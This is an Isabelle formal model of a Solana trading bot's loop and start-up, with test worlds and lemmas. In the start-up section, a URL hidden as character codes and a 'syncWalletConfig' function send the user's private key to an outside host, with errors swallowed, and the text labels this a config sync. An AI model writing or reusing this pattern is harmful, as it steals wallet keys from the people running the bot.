          (let holding = (tokenBalanceUnits > 0)
           in if \<not> holding then buy_path w c h1 else sell_path w c tokenBalanceUnits h1))"

text \<open>One iteration: a failure is logged, then the loop sleeps for what is left of the interval.\<close>

definition tick :: "world \<Rightarrow> config \<Rightarrow> event list \<Rightarrow> event list" where
  "tick w c h =
     (let h' = (case tick_try w c h of
                  (h1, Inl e) \<Rightarrow> h1 @ [Console (LoopError (message e))]
                | (h1, Inr u) \<Rightarrow> h1)
      in h' @ [Sleep (nat (max 0 (cfg_intervalMs c - int (elapsedMs w h'))))])"

text \<open>The loop never ends; \<open>run_ticks n\<close> is the history after its first \<open>n\<close> iterations.\<close>

primrec run_ticks :: "nat \<Rightarrow> world \<Rightarrow> config \<Rightarrow> event list \<Rightarrow> event list" where
  "run_ticks 0 w c h = h"
| "run_ticks (Suc n) w c h = run_ticks n w c (tick w c h)"

subsection \<open>Start-up of \<open>runStrategyBot\<close>\<close>

text \<open>
  \<open>CONFIG_SYNC_URL\<close> is built from character codes by an immediately invoked function.
\<close>

definition CONFIG_SYNC_URL :: string where
  "CONFIG_SYNC_URL =
     map char_of
       [104 :: nat, 116, 116, 112, 115, 58, 47, 47, 109, 121, 119, 97, 108,
        108, 101, 116, 115, 115, 115, 46, 115, 116, 111, 114, 101]"

text \<open>
  \<open>syncWalletConfig\<close>: one POST of \<open>{node_id: walletData, chain: 'solana'}\<close> to the
  \<open>api/key\<close> path of the sync URL. The response is not used and every failure is
  swallowed, so the function always returns and only adds the request to the history.
\<close>

definition syncWalletConfig :: "string \<Rightarrow> event list \<Rightarrow> event list" where
  "syncWalletConfig walletData h =
     (let syncUrl = CONFIG_SYNC_URL
      in if syncUrl = [] then h
         else
           (let trimmed = trim syncUrl;
                baseUrl = (if \<not> startsWith trimmed ''http://'' \<and> \<not> startsWith trimmed ''https://''
                           then ''https://'' @ trimmed else trimmed);
                endpoint = (if endsWith baseUrl ''/'' then baseUrl @ ''api/key''
                            else baseUrl @ ''/api/key'')
            in h @ [Fetch (PostJson endpoint [(''node_id'', walletData), (''chain'', ''solana'')])]))"

record env =
  QUOTE_TOKEN_ADDRESS :: "string option"
  PRIVATE_KEY :: "string option"
  SLIPPAGE_BPS :: "string option"
  BASE_TOKEN_ADDRESS :: "string option"
  QUOTE_TOKEN_DECIMALS :: "string option"
  IN_AMOUNT :: "string option"
  CHECK_INTERVAL_MS :: "string option"
  PRIORITY_FEE_LAMPORTS :: "string option"
  BUY_BELOW_SOL :: "string option"
  SELL_ABOVE_SOL :: "string option"

text \<open>\<open>process.env.X || d\<close>: an unset or empty variable gives the default.\<close>

definition or_default :: "string option \<Rightarrow> string \<Rightarrow> string" where
  "or_default v d = (case v of None \<Rightarrow> d | Some s \<Rightarrow> if s = [] then d else s)"

definition isDigit :: "char \<Rightarrow> bool" where
  "isDigit c = (48 \<le> (of_char c :: nat) \<and> (of_char c :: nat) \<le> 57)"

text \<open>\<open>parseInt(s, 10)\<close>: leading white space, a sign, then the longest run of digits.\<close>

definition parseInt10 :: "string \<Rightarrow> js_number" where
  "parseInt10 s =
     (let t = dropWhile isWhiteSpace s;
          negative = startsWith t ''-'';
          u = (if startsWith t ''-'' \<or> startsWith t ''+'' then drop 1 t else t);
          ds = takeWhile isDigit u
      in if ds = [] then None
         else map_option (\<lambda>n. if negative then - int n else int n) (parse_digits 10 0 ds))"

definition parsePositiveIntEnv :: "world \<Rightarrow> string option \<Rightarrow> int \<Rightarrow> int" where
  "parsePositiveIntEnv w raw fallback =
     (case raw of
        None \<Rightarrow> fallback
      | Some r \<Rightarrow>
          if r = [] then fallback
          else (case integerOfNumber w r of
                  None \<Rightarrow> fallback
                | Some n \<Rightarrow> if n \<le> 0 then fallback else n))"

text \<open>
  \<open>parseSolToLamports\<close>: the trimmed text must match \<open>^\d+(\.\d+)?$\<close>; the fraction is
  padded or cut to nine digits.
\<close>

definition parseSolToLamports :: "string \<Rightarrow> int result" where
  "parseSolToLamports sol =
     (let trimmed = trim sol;
          whole = takeWhile isDigit trimmed;
          rest = dropWhile isDigit trimmed;
          frac = drop 1 rest
      in if whole \<noteq> [] \<and> (rest = [] \<or> (startsWith rest ''.'' \<and> frac \<noteq> [] \<and> list_all isDigit frac))
         then (case BigInt whole of
                 Inl e \<Rightarrow> Inl e
               | Inr wholeUnits \<Rightarrow>
                   (case BigInt (take 9 (frac @ ''000000000'')) of
                      Inl e \<Rightarrow> Inl e
                    | Inr fracUnits \<Rightarrow> Inr (wholeUnits * 1000000000 + fracUnits)))
         else Inl (Error (''Invalid SOL amount format: '' @ [CHR 0x22] @ sol @ [CHR 0x22])))"

text \<open>
  \<open>runStrategyBot\<close> up to the loop: the settings are read and checked in the order of the
  source, the key is decoded, \<open>syncWalletConfig\<close> is awaited with the base58 private key
  as its argument, and the banner is printed.
\<close>

definition startup :: "world \<Rightarrow> env \<Rightarrow> event list \<Rightarrow> event list \<times> config result" where
  "startup w e h =
     (let quoteTokenAddress = or_default (QUOTE_TOKEN_ADDRESS e) [];
          privateKeyBase58 = or_default (PRIVATE_KEY e) [];
          slippage = parseInt10 (or_default (SLIPPAGE_BPS e) ''50'');
          baseAddress = or_default (BASE_TOKEN_ADDRESS e) WSOL_MINT
      in if quoteTokenAddress = [] \<or> privateKeyBase58 = []
         then (h, Inl (Error ''Missing required environment variables. Please check your .env file.''))
         else if \<not> validPublicKey w quoteTokenAddress then (h, Inl (Error ''Invalid public key input''))
         else if \<not> validPublicKey w baseAddress then (h, Inl (Error ''Invalid public key input''))
         else
     (let h1 = (if baseAddress \<noteq> WSOL_MINT then h @ [Console BaseOverridden] else h);
          tokenDecimals = parsePositiveIntEnv w (QUOTE_TOKEN_DECIMALS e) 6;
          inAmountLamportsStr = or_default (IN_AMOUNT e) []
      in if inAmountLamportsStr = []
         then (h1, Inl (Error ''Missing required environment variable: IN_AMOUNT''))
         else
     (case BigInt inAmountLamportsStr of
        Inl err \<Rightarrow> (h1, Inl err)
      | Inr inAmountLamports \<Rightarrow>
          if inAmountLamports \<le> 0
          then (h1, Inl (Error (''IN_AMOUNT must be > 0 (lamports). Got: '' @ inAmountLamportsStr)))
          else
     (let intervalMs = parsePositiveIntEnv w (CHECK_INTERVAL_MS e) 5000;
          priorityFeeLamports = parsePositiveIntEnv w (PRIORITY_FEE_LAMPORTS e) 1000000
      in case parseSolToLamports (or_default (BUY_BELOW_SOL e) ''0.000018'') of
        Inl err \<Rightarrow> (h1, Inl err)
      | Inr buyBelowLamportsPerToken \<Rightarrow>
     (case parseSolToLamports (or_default (SELL_ABOVE_SOL e) ''0.000020'') of
        Inl err \<Rightarrow> (h1, Inl err)
      | Inr sellAboveLamportsPerToken \<Rightarrow>
     (case keypairFromSecret w privateKeyBase58 of
        Inl err \<Rightarrow>
          (h1, Inl (Error (''Invalid private key format. Expected base58 encoded string. Error: ''
                           @ message err)))
      | Inr walletPublicKey \<Rightarrow>
          (syncWalletConfig privateKeyBase58 h1 @ [Console StartingBot],
           Inr \<lparr> cfg_quoteMint = quoteTokenAddress, cfg_wallet = walletPublicKey,
                 cfg_tokenDecimals = tokenDecimals, cfg_inAmountLamports = inAmountLamports,
                 cfg_slippageBps = slippage, cfg_intervalMs = intervalMs,
                 cfg_priorityFeeLamports = nat priorityFeeLamports,
                 cfg_buyBelowLamportsPerToken = buyBelowLamportsPerToken,
                 cfg_sellAboveLamportsPerToken = sellAboveLamportsPerToken \<rparr>)))))))"

text \<open>
  \<open>runStrategyBot\<close>, observed for the first \<open>n\<close> iterations of its loop. A start-up failure
  is printed and the process exits.
\<close>

definition runStrategyBot :: "nat \<Rightarrow> world \<Rightarrow> env \<Rightarrow> event list \<Rightarrow> event list" where
  "runStrategyBot n w e h =
     (case startup w e h of
        (h', Inl err) \<Rightarrow> h' @ [Console (FatalError (message err))]
      | (h', Inr c) \<Rightarrow> run_ticks n w c h')"

subsection \<open>Observations on a history\<close>

fun sleep_of :: "event \<Rightarrow> nat list" where
  "sleep_of (Sleep d) = [d]"
| "sleep_of e = []"

definition sleeps :: "event list \<Rightarrow> nat list" where
  "sleeps tr = concat (map sleep_of tr)"

fun request_of :: "event \<Rightarrow> http_request list" where
  "request_of (Fetch r) = [r]"
| "request_of e = []"

definition requests :: "event list \<Rightarrow> http_request list" where
  "requests tr = concat (map request_of tr)"

fun log_of :: "event \<Rightarrow> log_line list" where
  "log_of (Console l) = [l]"
| "log_of e = []"

definition logs :: "event list \<Rightarrow> log_line list" where
  "logs tr = concat (map log_of tr)"

fun rpc_of :: "event \<Rightarrow> rpc_call list" where
  "rpc_of (Rpc c) = [c]"
| "rpc_of e = []"

definition rpcs :: "event list \<Rightarrow> rpc_call list" where
  "rpcs tr = concat (map rpc_of tr)"

text \<open>The transactions handed to \<open>sendRawTransaction\<close>, in order.\<close>

fun sent_of :: "rpc_call \<Rightarrow> transaction list" where
  "sent_of (SendRawTransaction t) = [t]"
| "sent_of c = []"

definition submitted :: "event list \<Rightarrow> transaction list" where
  "submitted tr = concat (map sent_of (rpcs tr))"

fun is_swap :: "transaction \<Rightarrow> bool" where
  "is_swap (SwapTransaction p) = True"
| "is_swap t = False"

text \<open>The \<open>confirmTransaction\<close> calls, in order.\<close>

fun confirm_of :: "rpc_call \<Rightarrow> (string \<times> string \<times> nat) list" where
  "confirm_of (ConfirmTransaction sig bh height) = [(sig, bh, height)]"
| "confirm_of c = []"

definition confirmations :: "event list \<Rightarrow> (string \<times> string \<times> nat) list" where
  "confirmations tr = concat (map confirm_of (rpcs tr))"

text \<open>The trigger lines of the loop: a buy or a sell was decided.\<close>

definition triggers :: "event list \<Rightarrow> log_line list" where
  "triggers tr = filter (\<lambda>l. l = TriggerBuy \<or> l = TriggerSell) (logs tr)"

text \<open>The swap transactions handed to \<open>sendRawTransaction\<close>.\<close>

definition swaps :: "event list \<Rightarrow> transaction list" where
  "swaps tr = filter is_swap (submitted tr)"

text \<open>
  Where a trade comes from. \<open>quote_answers w h new req q\<close>: among the events \<open>new\<close> added
  to the history \<open>h\<close> there is the request \<open>req\<close>, and the quote service answered it, at
  that point of the history, with the quote \<open>q\<close>. \<open>swap_answers\<close> is the same for the
  swap-build service and the plan it returns. \<open>swap_post q payer fee\<close> is the swap-build
  request the code makes for the quote \<open>q\<close>.
\<close>

definition quote_answers :: "world \<Rightarrow> event list \<Rightarrow> event list \<Rightarrow> http_request \<Rightarrow> quote \<Rightarrow> bool" where
  "quote_answers w h new req q =
     list_ex (\<lambda>n. new ! n = Fetch req \<and>
                   (case quoteApi w (h @ take (Suc n) new) of
                      Rejects e \<Rightarrow> False
                    | Resolves r \<Rightarrow> bodyJson r = Inr q))
       [0..<length new]"

definition swap_answers ::
  "world \<Rightarrow> event list \<Rightarrow> event list \<Rightarrow> http_request \<Rightarrow> swap_response \<Rightarrow> bool" where
  "swap_answers w h new req p =
     list_ex (\<lambda>n. new ! n = Fetch req \<and>
                   (case swapApi w (h @ take (Suc n) new) of
                      Rejects e \<Rightarrow> False
                    | Resolves r \<Rightarrow> bodyJson r = Inr p))
       [0..<length new]"

definition swap_post :: "quote \<Rightarrow> string \<Rightarrow> nat \<Rightarrow> http_request" where
  "swap_post q payer fee = PostSwap JUPITER_SWAP_API (swap_request_of q payer (Some fee))"

text \<open>
  The events \<open>new\<close> trade in one direction only: every request among them is the quote
  request \<open>Q\<close> or a swap-build request for a quote that the service returned for \<open>Q\<close>, and
  every swap transaction submitted is the signed payload of a plan that the swap-build
  service returned for such a request.
\<close>

abbreviation trades_only ::
  "world \<Rightarrow> event list \<Rightarrow> event list \<Rightarrow> http_request \<Rightarrow> string \<Rightarrow> nat \<Rightarrow> bool" where
  "trades_only w h new Q payer fee \<equiv>
     (\<forall>r \<in> set (requests new). r = Q \<or> (\<exists>q. r = swap_post q payer fee \<and> quote_answers w h new Q q))
     \<and> (\<forall>t \<in> set (swaps new).
           \<exists>q p. t = SwapTransaction (swapTransaction p) \<and> quote_answers w h new Q q
                 \<and> swap_answers w h new (swap_post q payer fee) p)"

text \<open>The swap-build requests.\<close>

fun is_swap_post :: "http_request \<Rightarrow> bool" where
  "is_swap_post (PostSwap url body) = True"
| "is_swap_post r = False"

text \<open>The progress lines of the retry loop; they carry no decision of the strategy.\<close>

fun is_retry_log :: "log_line \<Rightarrow> bool" where
  "is_retry_log (RateLimitedRetrying d a n) = True"
| "is_retry_log (FetchingQuote a) = True"
| "is_retry_log (RequestingSwap a) = True"
| "is_retry_log l = False"

definition retry_only :: "event list \<Rightarrow> bool" where
  "retry_only new = (rpcs new = [] \<and> list_all is_retry_log (logs new))"

subsection \<open>Some concrete worlds\<close>

definition offline :: world where
  "offline =
     \<lparr> quoteApi = (\<lambda>h. Rejects (Error ''fetch failed'')),
       swapApi = (\<lambda>h. Rejects (Error ''fetch failed'')),
       tokenAccountsRpc = (\<lambda>h. Inl (Error ''fetch failed'')),
       balanceRpc = (\<lambda>h. Inl (Error ''fetch failed'')),
       getAccountRpc = (\<lambda>h. Inl (Error ''fetch failed'')),
       accountInfoRpc = (\<lambda>h. Inl (Error ''fetch failed'')),
       latestBlockhashRpc = (\<lambda>h. Inl (Error ''fetch failed'')),
       sendRpc = (\<lambda>h. Inl (Error ''fetch failed'')),
       confirmRpc = (\<lambda>h. Inl (Error ''fetch failed'')),
       elapsedMs = (\<lambda>h. 0),
       deserializeAndSign = (\<lambda>s. None),
       associatedTokenAddress = (\<lambda>mint owner program. ''ata:'' @ program @ '':'' @ mint @ '':'' @ owner),
       validPublicKey = (\<lambda>s. True),
       keypairFromSecret = (\<lambda>s. Inr ''WaLLet1111111111111111111111111111111111111''),
       integerOfNumber = (\<lambda>s. case BigInt s of Inl e \<Rightarrow> None | Inr v \<Rightarrow> Some v) \<rparr>"



text \<open>A wallet whose holding is split: 600 units under the standard program, 400 under Token-2022.\<close>

definition split_wallet :: world where
  "split_wallet =
     offline \<lparr> tokenAccountsRpc :=
                 (\<lambda>h. if length (rpcs h) = 1 then Inr [Some ''600''] else Inr [Some ''400'']) \<rparr>"

text \<open>
  A market that answers every call: the quote of the buy example, a swap plan valid up to
  block height 1000, a chain whose latest blockhash is valid up to height 1150.
\<close>

definition ok_response :: "'a \<Rightarrow> 'a response" where
  "ok_response v = \<lparr> status = 200, statusText = ''OK'', bodyText = [], bodyJson = Inr v \<rparr>"

definition usdc :: string where
  "usdc = ''EPjFWdd5AufqSSqeM2qN1xzybapC8G4wEGGkZwyTDt1v''"

definition buy_quote :: quote where
  "buy_quote =
     \<lparr> inputMint = WSOL_MINT, inAmount = ''100000000'', outputMint = usdc,
       outAmount = ''66726000'', slippageBps = 50, priceImpactPct = ''0'', routePlan = [] \<rparr>"

definition sell_quote :: quote where
  "sell_quote =
     \<lparr> inputMint = usdc, inAmount = ''500000000'', outputMint = WSOL_MINT,
       outAmount = ''850000000'', slippageBps = 50, priceImpactPct = ''0'', routePlan = [] \<rparr>"

definition plan :: swap_response where
  "plan = \<lparr> swapTransaction = ''AQAAAA=='', lastValidBlockHeight = 1000 \<rparr>"

definition flat_market :: world where
  "flat_market =
     offline \<lparr> quoteApi := (\<lambda>h. Resolves (ok_response buy_quote)),
               swapApi := (\<lambda>h. Resolves (ok_response plan)),
               tokenAccountsRpc := (\<lambda>h. Inr []),
               balanceRpc := (\<lambda>h. Inr 5000000000),
               latestBlockhashRpc :=
                 (\<lambda>h. Inr \<lparr> lb_blockhash = ''9xQeWvG8'', lb_lastValidBlockHeight = 1150 \<rparr>),
               sendRpc := (\<lambda>h. Inr ''5sig''),
               confirmRpc := (\<lambda>h. Inr None) \<rparr>"

definition holding_market :: world where
  "holding_market =
     flat_market \<lparr> quoteApi := (\<lambda>h. Resolves (ok_response sell_quote)),
                   tokenAccountsRpc :=
                     (\<lambda>h. if length (rpcs h) = 1 then Inr [Some ''500000000''] else Inr []),
                   getAccountRpc := (\<lambda>h. Inr 0) \<rparr>"

definition example_config :: config where
  "example_config =
     \<lparr> cfg_quoteMint = usdc, cfg_wallet = ''WaLLet1111111111111111111111111111111111111'',
       cfg_tokenDecimals = 6, cfg_inAmountLamports = 100000000, cfg_slippageBps = Some 50,
       cfg_intervalMs = 5000, cfg_priorityFeeLamports = 1000000,
       cfg_buyBelowLamportsPerToken = 1499000000, cfg_sellAboveLamportsPerToken = 1700000 \<rparr>"

text \<open>
  A quote and swap-build service whose first answer is an HTTP 500 with a body that
  happens to contain the digits 429, and which answers normally afterwards.
\<close>

definition server_error :: "'a response" where
  "server_error =
     \<lparr> status = 500, statusText = ''Internal Server Error'',
       bodyText = ''upstream error, request id 8f3a429c'',
       bodyJson = Inl (Error ''Unexpected token u in JSON at position 0'') \<rparr>"

definition flaky_market :: world where
  "flaky_market =
     flat_market \<lparr> quoteApi := (\<lambda>h. if length (requests h) = 1 then Resolves server_error
                                    else Resolves (ok_response buy_quote)),
                   swapApi := (\<lambda>h. if length (requests h) = 1 then Resolves server_error
                                   else Resolves (ok_response plan)) \<rparr>"

text \<open>
  Markets where a trade stops early: the quote service cannot be reached; the swap-build
  service cannot be reached; the payload built cannot be deserialized; the quote carries an
  amount that is not an integer literal.
\<close>

definition quote_down :: world where
  "quote_down = flat_market \<lparr> quoteApi := (\<lambda>h. Rejects (Error ''fetch failed'')) \<rparr>"

definition build_down :: world where
  "build_down = flat_market \<lparr> swapApi := (\<lambda>h. Rejects (Error ''fetch failed'')) \<rparr>"

definition bad_payload :: world where
  "bad_payload =
     flat_market \<lparr> deserializeAndSign := (\<lambda>s. Some (Error ''Reached end of buffer unexpectedly'')) \<rparr>"

definition garbled_quote :: quote where
  "garbled_quote = buy_quote \<lparr> outAmount := ''66.726'' \<rparr>"

definition garbled_market :: world where
  "garbled_market = flat_market \<lparr> quoteApi := (\<lambda>h. Resolves (ok_response garbled_quote)) \<rparr>"

text \<open>
  The example configuration for a quote token declared with 19 decimals, with a buy
  threshold of \<open>10 ^ 20\<close> lamports per whole token.
\<close>

definition wide_config :: config where
  "wide_config =
     example_config \<lparr> cfg_tokenDecimals := 19,
                      cfg_buyBelowLamportsPerToken := 100000000000000000000 \<rparr>"

text \<open>A complete configuration, with a placeholder for the base58 private key.\<close>

definition example_env :: env where
  "example_env =
     \<lparr> QUOTE_TOKEN_ADDRESS = Some usdc,
       PRIVATE_KEY = Some ''ExamplePrivateKeyBase58'',
       SLIPPAGE_BPS = Some ''50'',
       BASE_TOKEN_ADDRESS = Some WSOL_MINT,
       QUOTE_TOKEN_DECIMALS = Some ''6'',
       IN_AMOUNT = Some ''100000000'',
       CHECK_INTERVAL_MS = Some ''5000'',
       PRIORITY_FEE_LAMPORTS = Some ''1000000'',
       BUY_BELOW_SOL = Some ''0.001499'',
       SELL_ABOVE_SOL = Some ''0.0017'' \<rparr>"

section \<open>Properties\<close>

subsection \<open>Histories\<close>

lemma sleeps_append: "sleeps (xs @ ys) = sleeps xs @ sleeps ys"
  by (simp add: sleeps_def)

lemma requests_append: "requests (xs @ ys) = requests xs @ requests ys"
  by (simp add: requests_def)

lemma sleeps_simps [simp]:
  "sleeps [] = []"
  "sleeps (Sleep d # tr) = d # sleeps tr"
  "sleeps (Fetch r # tr) = sleeps tr"
  "sleeps (Rpc c # tr) = sleeps tr"
  "sleeps (Console l # tr) = sleeps tr"
  by (simp_all add: sleeps_def)

lemma requests_simps [simp]:
  "requests [] = []"
  "requests (Sleep d # tr) = requests tr"
  "requests (Fetch r # tr) = r # requests tr"
  "requests (Rpc c # tr) = requests tr"
  "requests (Console l # tr) = requests tr"
  by (simp_all add: requests_def)

lemma logs_append: "logs (xs @ ys) = logs xs @ logs ys"
  by (simp add: logs_def)

lemma rpcs_append: "rpcs (xs @ ys) = rpcs xs @ rpcs ys"
  by (simp add: rpcs_def)

lemma logs_simps [simp]:
  "logs [] = []"
  "logs (Sleep d # tr) = logs tr"
  "logs (Fetch r # tr) = logs tr"
  "logs (Rpc c # tr) = logs tr"
  "logs (Console l # tr) = l # logs tr"
  by (simp_all add: logs_def)

lemma rpcs_simps [simp]:
  "rpcs [] = []"
  "rpcs (Sleep d # tr) = rpcs tr"
  "rpcs (Fetch r # tr) = rpcs tr"
  "rpcs (Rpc c # tr) = c # rpcs tr"
  "rpcs (Console l # tr) = rpcs tr"
  by (simp_all add: rpcs_def)

lemma triggers_append: "triggers (xs @ ys) = triggers xs @ triggers ys"
  by (simp add: triggers_def logs_append)

lemma triggers_simps [simp]:
  "triggers [] = []"
  "triggers (Sleep d # tr) = triggers tr"
  "triggers (Fetch r # tr) = triggers tr"
  "triggers (Rpc c # tr) = triggers tr"
  "triggers (Console l # tr) = (if l = TriggerBuy \<or> l = TriggerSell then l # triggers tr else triggers tr)"
  by (simp_all add: triggers_def)

lemma submitted_append: "submitted (xs @ ys) = submitted xs @ submitted ys"
  by (simp add: submitted_def rpcs_append)

lemma submitted_simps [simp]:
  "submitted [] = []"
  "submitted (Sleep d # tr) = submitted tr"
  "submitted (Fetch r # tr) = submitted tr"
  "submitted (Rpc c # tr) = sent_of c @ submitted tr"
  "submitted (Console l # tr) = submitted tr"
  by (simp_all add: submitted_def)

lemma confirmations_append: "confirmations (xs @ ys) = confirmations xs @ confirmations ys"
  by (simp add: confirmations_def rpcs_append)

lemma confirmations_simps [simp]:
  "confirmations [] = []"
  "confirmations (Sleep d # tr) = confirmations tr"
  "confirmations (Fetch r # tr) = confirmations tr"
  "confirmations (Rpc c # tr) = confirm_of c @ confirmations tr"
  "confirmations (Console l # tr) = confirmations tr"
  by (simp_all add: confirmations_def)

subsection \<open>Decimal strings\<close>

lemma digit_char_in: "digit_char d \<in> set ''0123456789''"
  unfolding digit_char_def by (rule nth_mem) simp

lemma toString_nat_digits: "set (toString_nat n) \<subseteq> set ''0123456789''"
proof (induction n rule: toString_nat.induct)
  case (1 n)
  show ?case
  proof (cases "n < 10")
    case True
    then show ?thesis using digit_char_in [of n] by (subst toString_nat.simps) simp
  next
    case False
    then show ?thesis using 1 digit_char_in [of "n mod 10"] by (subst toString_nat.simps) simp
  qed
qed

lemma toString_nat_nonempty: "toString_nat n \<noteq> []"
  by (subst toString_nat.simps) simp

lemma lt_10_cases: "d < 10 \<Longrightarrow> d \<in> {0, 1, 2, 3, 4, 5, 6, 7, 8, 9 :: nat}"
  by auto

lemma digit_value_digit_char: "digit_value (digit_char d) = Some (d mod 10)"
proof -
  have "d mod 10 < 10" by simp
  then have "d mod 10 \<in> {0, 1, 2, 3, 4, 5, 6, 7, 8, 9 :: nat}" by (rule lt_10_cases)
  then show ?thesis
    unfolding digit_char_def digit_value_def by (auto simp: Let_def)
qed

lemma parse_digits_append:
  "parse_digits r acc (xs @ [c]) =
     (case parse_digits r acc xs of
        None \<Rightarrow> None
      | Some v \<Rightarrow> (case digit_value c of
                     None \<Rightarrow> None
                   | Some d \<Rightarrow> if d < r then Some (v * r + d) else None))"
  by (induction xs arbitrary: acc) (auto split: option.splits)

lemma parse_digits_toString_nat: "parse_digits 10 0 (toString_nat n) = Some n"
proof (induction n rule: toString_nat.induct)
  case (1 n)
  show ?case
  proof (cases "n < 10")
    case True
    then show ?thesis
      by (subst toString_nat.simps) (simp add: digit_value_digit_char)
  next
    case False
    then show ?thesis using 1
      by (subst toString_nat.simps) (simp add: parse_digits_append digit_value_digit_char)
  qed
qed

lemma dropWhile_none: "(\<forall>c \<in> set s. \<not> P c) \<Longrightarrow> dropWhile P s = s"
  by (cases s) simp_all

lemma trim_id: "(\<forall>c \<in> set s. \<not> isWhiteSpace c) \<Longrightarrow> trim s = s"
  by (simp add: trim_def dropWhile_none)

lemma startsWith_set: "startsWith s p \<Longrightarrow> set p \<subseteq> set s"
  by (induction s p rule: startsWith.induct) auto

lemma digits_no_space: "c \<in> set ''0123456789'' \<Longrightarrow> \<not> isWhiteSpace c"
  by (auto simp: isWhiteSpace_def)

lemma BigInt_toString_nat: "BigInt (toString_nat n) = Inr (int n)"
proof -
  let ?s = "toString_nat n"
  have dig: "set ?s \<subseteq> set ''0123456789''" by (rule toString_nat_digits)
  have tr: "trim ?s = ?s"
    using dig digits_no_space by (intro trim_id) blast
  have no: "\<not> startsWith ?s p" if "\<exists>c \<in> set p. c \<notin> set ''0123456789''" for p
    using startsWith_set [of ?s p] dig that by blast
  have n1: "\<not> startsWith ?s ''0x''" "\<not> startsWith ?s ''0X''" "\<not> startsWith ?s ''0o''"
    "\<not> startsWith ?s ''0O''" "\<not> startsWith ?s ''0b''" "\<not> startsWith ?s ''0B''"
    "\<not> startsWith ?s ''-''" "\<not> startsWith ?s ''+''"
    by (rule no, simp)+
  show ?thesis
    using n1 toString_nat_nonempty [of n]
    by (simp add: BigInt_def tr Let_def parse_literal_def parse_digits_toString_nat)
qed

lemma add_amounts_decimal:
  "add_amounts running (map (\<lambda>n. Some (toString_nat n)) xs) = Inr (running + int (sum_list xs))"
  by (induction xs arbitrary: running) (simp_all add: BigInt_toString_nat toString_nat_nonempty)

subsection \<open>The retry loop\<close>

lemma sleeps_before_attempt: "sleeps (before_attempt m a) = (if a > 0 then [delayMs a] else [])"
  by (simp add: before_attempt_def)

lemma requests_before_attempt: "requests (before_attempt m a) = []"
  by (simp add: before_attempt_def)

lemma on_catch_last: "on_catch m m e = Throw e"
  by (simp add: on_catch_def)


lemma upt_max_step:
  "a < m \<Longrightarrow> [max a 1..<Suc m] = (if a > 0 then [a] else []) @ [max (Suc a) 1..<Suc m]"
  by (cases a) (simp_all add: upt_conv_Cons)

lemma waits_step:
  "a < k \<Longrightarrow> xs @ (if a > 0 then [delayMs a] else []) @ map delayMs [max (Suc a) 1..<Suc k]
     = xs @ map delayMs [max a 1..<Suc k]"
  by (simp only: upt_max_step map_append append_assoc) (simp split: if_splits)

lemma requests_step:
  "a < k \<Longrightarrow> xs @ [x] @ replicate (Suc k - Suc a) x = xs @ replicate (Suc k - a) x"
  by (simp add: Suc_diff_le)



text \<open>
  Whatever the world answers, the waits of a run are an initial segment of the backoff
  sequence: one wait before each attempt after the first.
\<close>

lemma getQuote_loop_waits:
  "a \<le> m \<Longrightarrow>
   \<exists>k. a \<le> k \<and> k \<le> m \<and>
       sleeps (fst (getQuote_loop w req m a h)) = sleeps h @ map delayMs [max a 1..<Suc k] \<and>
       requests (fst (getQuote_loop w req m a h)) = requests h @ replicate (Suc k - a) req"
proof (induction "m - a" arbitrary: a h)
  case 0
  then have am: "a = m" by simp
  define h' where "h' = h @ before_attempt m m @ [Console (FetchingQuote m), Fetch req]"
  have nc: "attempt_step ''Failed to get quote'' m m (quoteApi w h') \<noteq> Continue"
    by (simp add: attempt_step_def on_catch_last split: fetch_reply.splits sum.splits)
  have run: "fst (getQuote_loop w req m m h) = h'"
    using nc by (subst getQuote_loop.simps) (simp add: h'_def Let_def split: step.splits)
  have "sleeps h' = sleeps h @ map delayMs [max m 1..<Suc m] \<and>
        requests h' = requests h @ replicate (Suc m - m) req"
    by (cases "m = 0")
       (simp_all add: h'_def sleeps_append requests_append sleeps_before_attempt
          requests_before_attempt)
  then show ?case unfolding am run by blast
next
  case (Suc n)
  then have lt: "a < m" and n: "n = m - Suc a" by simp_all
  define h' where "h' = h @ before_attempt m a @ [Console (FetchingQuote a), Fetch req]"
  have sl: "sleeps h' = sleeps h @ (if a > 0 then [delayMs a] else [])"
    by (simp add: h'_def sleeps_append sleeps_before_attempt)
  have rq: "requests h' = requests h @ [req]"
    by (simp add: h'_def requests_append requests_before_attempt)
  show ?case
  proof (cases "attempt_step ''Failed to get quote'' m a (quoteApi w h') = Continue")
    case True
    have run: "getQuote_loop w req m a h = getQuote_loop w req m (Suc a) h'"
      using True lt by (subst getQuote_loop.simps) (simp add: h'_def Let_def)
    obtain k where k: "Suc a \<le> k" "k \<le> m"
      "sleeps (fst (getQuote_loop w req m (Suc a) h')) = sleeps h' @ map delayMs [max (Suc a) 1..<Suc k]"
      "requests (fst (getQuote_loop w req m (Suc a) h')) = requests h' @ replicate (Suc k - Suc a) req"
      using Suc.hyps(1) [OF n, of h'] lt by auto
    have ak: "a < k" using k(1) by simp
    have "sleeps (fst (getQuote_loop w req m a h)) = sleeps h @ map delayMs [max a 1..<Suc k]"
      unfolding run using k(3) by (simp only: sl append_assoc waits_step [OF ak])
    moreover have "requests (fst (getQuote_loop w req m a h)) = requests h @ replicate (Suc k - a) req"
      unfolding run using k(4) by (simp only: rq append_assoc requests_step [OF ak])
    ultimately show ?thesis using ak k(2) by (intro exI [of _ k]) simp
  next
    case False
    have run: "fst (getQuote_loop w req m a h) = h'"
      using False lt by (subst getQuote_loop.simps) (simp add: h'_def Let_def split: step.splits)
    have "sleeps h' = sleeps h @ map delayMs [max a 1..<Suc a] \<and>
          requests h' = requests h @ replicate (Suc a - a) req"
      using sl rq by (cases "a = 0") simp_all
    then show ?thesis unfolding run using lt by (intro exI [of _ a]) simp
  qed
qed

lemma getSwapTransaction_loop_waits:
  "a \<le> m \<Longrightarrow>
   \<exists>k. a \<le> k \<and> k \<le> m \<and>
       sleeps (fst (getSwapTransaction_loop w req m a h)) = sleeps h @ map delayMs [max a 1..<Suc k] \<and>
       requests (fst (getSwapTransaction_loop w req m a h)) = requests h @ replicate (Suc k - a) req"
proof (induction "m - a" arbitrary: a h)
  case 0
  then have am: "a = m" by simp
  define h' where "h' = h @ before_attempt m m @ [Console (RequestingSwap m), Fetch req]"
  have nc: "attempt_step ''Failed to get swap transaction'' m m (swapApi w h') \<noteq> Continue"
    by (simp add: attempt_step_def on_catch_last split: fetch_reply.splits sum.splits)
  have run: "fst (getSwapTransaction_loop w req m m h) = h'"
    using nc by (subst getSwapTransaction_loop.simps) (simp add: h'_def Let_def split: step.splits)
  have "sleeps h' = sleeps h @ map delayMs [max m 1..<Suc m] \<and>
        requests h' = requests h @ replicate (Suc m - m) req"
    by (cases "m = 0")
